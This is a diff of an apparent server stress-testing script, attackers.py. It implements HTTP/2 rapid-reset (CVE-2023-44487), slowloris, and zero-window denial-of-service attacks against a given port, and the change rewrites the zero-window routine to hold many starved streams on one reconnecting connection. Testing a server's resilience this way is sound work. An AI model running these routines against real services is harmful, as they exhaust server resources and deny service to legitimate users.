@@ -4,8 +4,8 @@
 usage: attackers.py rapid-reset PORT | slowloris PORT COUNT | zero-window PORT PATH
 rapid-reset opens streams of HTTP/2 and resets each at once (CVE-2023-44487), and connects again when
 it is thrown out. slowloris keeps COUNT connections on which a request never ends: half of them of
-HTTP/1.1, half of HTTP/2, a byte or a frame each few seconds. zero-window asks for PATH on 8
-connections with 100 streams each, and takes not one byte of the answers.
+HTTP/1.1, half of HTTP/2, a byte or a frame each few seconds. zero-window asks for PATH on
+100 streams of one connection, and takes not one byte of the answers.
 """
 import contextlib
 import resource
@@ -105,22 +105,16 @@ def slowloris(port, count):
 
 
 def zero_window(port, path):
-    """Keeps connecting until 8 are there; they ask once and then only wait."""
+    """Asks again when it is thrown out; otherwise it only waits."""
     settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
-    connections = []
     while True:
-        while len(connections) < 8:
-            with contextlib.suppress(OSError):
-                connection = connect_h2(port, settings)
-                connection.sendall(b"".join(request(stream, path) for stream in range(1, 200, 2)))
-                connections.append(connection)
-        time.sleep(1)
-        for connection in connections[:]:
-            try:
+        with contextlib.suppress(OSError), connect_h2(port, settings) as connection:
+            connection.sendall(b"".join(request(stream, path)
+                                        for stream in range(1, 2 * STREAMS_OF_A_BATCH, 2)))
+            while True:
                 drop_what_came(connection)
                 connection.sendall(frame(PING, 0, 0, bytes(8)))
-            except OSError:
-                connections.remove(connection)
+                time.sleep(1)
 
 
 def main(kind, port, *rest):
